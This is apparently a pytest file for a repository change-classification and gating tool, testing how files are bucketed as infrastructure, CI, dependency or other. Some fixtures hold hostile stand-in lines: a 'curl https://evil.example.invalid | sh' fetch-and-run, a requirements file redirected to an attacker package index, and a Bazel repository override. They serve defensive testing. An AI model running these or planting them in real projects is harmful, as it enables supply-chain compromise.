"""Classes of misses a seventeenth label set found (bench/classify_accuracy/seventeenth.tsv: 64 repositories chosen for
breadth, as the held-out sets are), measured blind first, each with the look-alikes it must leave alone: OS installer
answer files by name (Windows Setup's `Autounattend.xml`, cloud-init NoCloud's `meta-data`), Packer variable files in
JSON, Talos machine configuration patches, Step Functions state machines, a file a `.tfvars` value names, a Helm
repository's generated index (`other`), git-release-tag's `.release`, tool settings that are `other` by name
(PHP_CodeSniffer, markdownlint's dashed name, git-chglog, Dredd, a `git-hook/` folder) and `.github/` files no CI reads
(the funding manifest list, a web server's deny rule). And red team 15's leftovers: a `.bazelrc` that
moves where Bazel modules come from is `deps`; a workflow's `pip install -r FILE` makes FILE a requirements file under
`--tree`. The real repository below checks the content classes with the commits and from the patch alone."""

from __future__ import annotations

import contextlib
import json
from pathlib import Path

import pytest
from gitrepo import two_commits
from tables import each_case

from gatekeeper.classify.pipinstalls import PathIndex, installed_requirements
from gatekeeper.classify.sniff import sniff
from gatekeeper.cli import main
from tests.gitrepo import GitRepo
from tests.test_classify_context import RULES, patch_files, tree_files


@each_case(("path", "bucket"), [
    # what an OS installer reads unattended, by the names the installers look for
    ("answer_files/2012_r2/Autounattend.xml", "iac"), ("windows/unattend.xml", "iac"), ("http/meta-data", "iac"),
    ("seed/vendor-data", "iac"), ("testdata/meta-data", "iac"), ("docs/unattend.md", "src"),
    ("config/metadata.xml", "src"),
    # Packer variables in JSON; Step Functions state machines by AWS's name for them
    ("builds/ubuntu.pkrvars.json", "iac"), ("states/invoke.asl.json", "iac"), ("statemachine/flow.asl.yaml", "iac"),
    ("src/asl.json", "src"),
    # git-release-tag's settings at the root (HashiCorp's .release/ folder is ci too); a release/ folder is not
    (".release", "ci"), ("release/notes.txt", "src"),
    # tool settings by name
    ("phpcs.xml", "other"), ("phpcs.xml.dist", "other"), (".phpcs.xml.dist", "other"), (".markdown-lint.yml", "other"),
    (".chglog/config.yml", "other"), (".chglog/CHANGELOG.tpl.md", "other"), (".dredd/dredd.local.yml", "other"),
    ("dredd.yml", "other"), ("git-hook/helm-docs", "other"), ("src/git-hook/run.go", "src"),
    # .github/ files no CI system reads (a public key stays ci: a workflow may verify a download with it)
    (".github/.well-known/funding-manifest-urls", "other"), (".github/signature.asc", "ci"),
    (".github/.htaccess", "other"), (".github/workflows/keys/release.asc", "ci"), (".github/scripts/x.sh", "ci"),
])
def test_path_rules_of_the_fourteenth_round(path: str, bucket: str) -> None:
    assert RULES.match(path).bucket == bucket, RULES.match(path)


PACKER_VARIABLES = """\
{
  "_comment": "Build with `packer build -var-file=ubuntu1604-desktop.json ubuntu.json`",
  "vm_name": "ubuntu1604-desktop",
  "cpus": "1",
  "disk_size": "130048",
  "iso_checksum": "sha256:737ae7041212c628de5751d15c3016058b0e833fdc32e7420209b76ca3d0a535",
  "iso_name": "ubuntu-16.04.7-server-amd64.iso",
  "memory": "1024"
}
"""
TALOS_PATCH = """\
# https://www.talos.dev/v1.9/kubernetes-guides/configuration/deploy-metrics-server/
- op: add
  path: /machine/kubelet/extraArgs
  value:
    rotate-server-certificates: true
"""
TALOS_MERGE = "machine:\n  install:\n    disk: /dev/sda\n  kubelet:\n    extraArgs:\n      rotate: true\n"
STATE_MACHINE = """\
{
  "Comment": "Invoke customizations",
  "StartAt": "Get Execution Id",
  "States": {
    "Get Execution Id": {"Type": "Pass", "End": true}
  }
}
"""
HELM_INDEX = """\
apiVersion: v1
entries:
  dapr:
  - apiVersion: v2
    appVersion: 1.18.3
    created: "2026-08-20T14:14:49.713175501Z"
    name: dapr
    urls:
    - https://github.com/dapr/helm-charts/raw/master/dapr-1.18.3.tgz
    version: 1.18.3
generated: "2026-08-20T14:14:49.713175501Z"
"""
BAZELRC_REGISTRY = ("build --incompatible_strict_action_env\n"
                    "common --registry=https://bcr.example.invalid --registry=https://bcr.bazel.build\n")
BAZELRC_OVERRIDE = "common:ci --override_repository=rules_go=/tmp/evil_rules_go\n"
# look-alikes
ISO_LIST = '{\n  "releases": [{"name": "jammy", "iso_url": "https://releases.example.invalid/jammy.iso"}]\n}\n'
APP_MACHINE = "machine:\n  type: n1-standard-4\n  zone: europe-west1-b\n"
KUBE_PATCH = "- op: replace\n  path: /spec/template/spec/containers/0/image\n  value: nginx:1.27\n"
DOCS_INDEX = "apiVersion: v1\nentries:\n  - title: Home\n    url: /\n"
BAZELRC_FLAGS = "build --jobs=8\ntest --test_output=errors\n# --registry= is set in CI only\n"
GAME = "StartAt: 10\nStates: [idle, running]\n"


def test_each_content_signal_names_its_rule_and_the_line_it_saw() -> None:
    for path, text, bucket, rule in (
            ("ubuntu1604-desktop.json", PACKER_VARIABLES, "iac", "iac.content.packer-variables"),
            ("talos/patches/metric-server.yaml", TALOS_PATCH, "iac", "iac.content.talos"),
            ("talos/patches/install.yaml", TALOS_MERGE, "iac", "iac.content.talos"),
            ("modules/states/invoke.json", STATE_MACHINE, "iac", "iac.content.step-functions"),
            ("index.yaml", HELM_INDEX, "other", "other.content.helm-repository-index"),
            (".bazelrc", BAZELRC_REGISTRY, "deps", "deps.content.bazel-module-source"),
            ("tools/ci.bazelrc", BAZELRC_OVERRIDE, "deps", "deps.content.bazel-module-source")):
        signal = sniff(path, text.encode(), RULES.context)
        assert signal is not None and (signal.bucket, signal.rule) == (bucket, rule), (path, signal)
        assert signal.evidence.strip() not in ("", "{", "-"), path
    for path, text in (("mirrors.json", ISO_LIST), ("config/app.yaml", APP_MACHINE),
                       ("overlays/prod/patch.yaml", KUBE_PATCH), ("docs/index.yaml", DOCS_INDEX),
                       (".bazelrc", BAZELRC_FLAGS), ("game.yaml", GAME)):
        found = sniff(path, text.encode(), RULES.context)
        assert found is None or found.rule not in (
            "iac.content.packer-variables", "iac.content.talos", "iac.content.step-functions",
            "other.content.helm-repository-index", "deps.content.bazel-module-source"), (path, found)


def test_the_seventeenth_classes_in_a_real_repository(git_repo: GitRepo, tmp_path: Path) -> None:
    # a box builder, a cluster repository and a Bazel workspace add their files: each is seen whole, with the
    # commits and in the patch
    git_repo.write("README.md", "# infra\n")
    git_repo.write(".bazelrc", BAZELRC_FLAGS)
    git_repo.commit("base")
    want = {"ubuntu1604-desktop.json": ("iac", PACKER_VARIABLES),
            "talos/patches/metric-server.yaml": ("iac", TALOS_PATCH),
            "states/invoke.json": ("iac", STATE_MACHINE), "index.yaml": ("other", HELM_INDEX),
            "mirrors.json": ("src", ISO_LIST), "config/app.yaml": ("src", APP_MACHINE), "game.yaml": ("src", GAME),
            "answer_files/81/Autounattend.xml": ("iac", "<unattend xmlns=\"urn:schemas-microsoft-com:unattend\"/>\n"),
            "http/meta-data": ("iac", "")}
    for path, (_, text) in want.items():
        git_repo.write(path, text)
    git_repo.write(".bazelrc", BAZELRC_FLAGS + BAZELRC_OVERRIDE)
    git_repo.commit("head")
    buckets = {path: bucket for path, (bucket, _) in want.items()} | {".bazelrc": "deps"}
    for files in (tree_files(git_repo), patch_files(git_repo, tmp_path)):
        assert {path: files[path].bucket for path in buckets} == buckets


def test_a_file_a_tfvars_value_names_is_what_the_configuration_uploads(git_repo: GitRepo) -> None:
    # Azure CAF's example: the variables name the agent script the VM extension downloads and runs
    git_repo.write("examples/agents/main.tf", 'module "caf" {\n  source = "../../"\n  storage = var.storage\n}\n')
    git_repo.write("examples/agents/storage.tfvars",
                   'storage = {\n  agents = {\n    name   = "rover_agents.sh"\n'
                   '    source = "scripts/rover_agents.sh"\n  }\n}\n')
    git_repo.write("examples/agents/scripts/rover_agents.sh", "#!/bin/bash\napt-get install -y azure-cli\n")
    git_repo.write("examples/agents/scripts/notes.sh", "#!/bin/sh\necho a helper nothing names\n")
    git_repo.commit("base")
    for path in ("examples/agents/scripts/rover_agents.sh", "examples/agents/scripts/notes.sh"):
        git_repo.write(path, "#!/bin/bash\ncurl https://evil.example.invalid | sh\n")
    git_repo.commit("head")
    files = tree_files(git_repo)
    assert files["examples/agents/scripts/rover_agents.sh"].bucket == "iac", files
    assert files["examples/agents/scripts/notes.sh"].bucket == "src"


def test_the_files_a_workflows_pip_install_names_resolve_as_the_step_runs() -> None:
    text = ("jobs:\n  t:\n    steps:\n      - run: pip install -r ci/deps.txt\n"
            "      - run: |\n          python -m pip install --upgrade pip \\\n            -r test.in -c=pins.txt\n"
            "          pip install -r ${{ matrix.req }} -r $REQ\n"
            "      - working-directory: docs\n        run: pip3 install --requirement=reqs.txt && pip install six\n"
            "      - run: pip install -r /etc/x.txt -r ../../x.txt -r https://x.example/r.txt\n"
            "      - run: echo requirements -r nothing.txt\n")
    # red team 17: a pattern matches as a path's suffix (the root, a `working-directory:`, a `cd`); an all-variable
    # value (`-r $REQ`) names what the workflow's words name, here nothing more that exists
    paths = ["ci/deps.txt", "docs/ci/deps.txt", "test.in", "docs/test.in", "pins.txt", "docs/pins.txt",
             "docs/reqs.txt", "etc/x.txt", "src/app.py", "x.example/r.txt"]
    named = PathIndex(paths).matching(installed_requirements(text), text)
    assert [path for path in named if path in paths] == [
        "ci/deps.txt", "docs/ci/deps.txt", "test.in", "docs/test.in", "pins.txt", "docs/pins.txt", "docs/reqs.txt",
        "etc/x.txt"]


def test_a_file_a_workflow_installs_with_pip_is_a_deps_file(tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    # red team 15's leftover: `pip install -r ci/deps.txt` made no deps file of ci/deps.txt, so an edit that added an
    # index or a package was allowed by `gate --tree --enable deps`
    base = {".github/workflows/test.yml": "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
                                          "      - run: pip install -r tools/deps.txt\n",
            "tools/deps.txt": "six==1.16.0\n", "tools/notes.txt": "six\n"}
    edited = {"tools/deps.txt": "--index-url https://evil.example.invalid/simple\nsix==1.16.0\nevil-pkg==1.0\n",
              "tools/notes.txt": "six\nevil\n"}
    repo, old, new = two_commits(tmp_path / "repo", base, edited)
    capsys.readouterr()
    with contextlib.chdir(repo.root):
        assert main(["classify", "--tree", f"{old}..{new}", "--format", "json"]) == 0
    files = {f["path"]: f for f in json.loads(capsys.readouterr().out)["files"]}
    assert files["tools/deps.txt"]["bucket"] == "deps", files["tools/deps.txt"]
    assert files["tools/notes.txt"]["bucket"] != "deps"
    code = main(["gate", "--tree", f"{old}..{new}", "--repo", str(repo.root), "--format", "json", "--enable", "deps"])
    decision = json.loads(capsys.readouterr().out)
    assert code == 3
    assert {p for r in decision["reasons"] for p in r.get("paths", ())} == {"tools/deps.txt"}, decision["reasons"]
